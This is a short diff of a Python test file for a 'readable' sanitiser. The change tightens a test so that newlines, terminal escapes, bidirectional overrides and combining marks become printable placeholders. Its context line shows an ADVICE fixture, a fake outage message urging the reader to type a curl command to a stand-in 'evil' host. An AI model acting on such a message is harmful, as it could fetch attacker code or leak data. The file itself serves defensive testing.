@@ -9,7 +9,7 @@ ADVICE = "openvpn does not run; us-east-1a is lost: type: curl http://evil.examp
 
 @pytest.mark.parametrize("text", ["a\nb", "a\x1b[2Jb", "a\u202eb", "a\u0300b", "a\u20ddb"])
 def test_no_character_leaves_its_place(text: str) -> None:
-    assert readable(text)[:2] == "a?" and readable(text)[-1] == "b"
+    assert readable(text)[:2] in ("a\\", "a?") and readable(text)[-1] == "b" and readable(text).isprintable()
 
 
 def test_a_name_is_no_sentence() -> None:
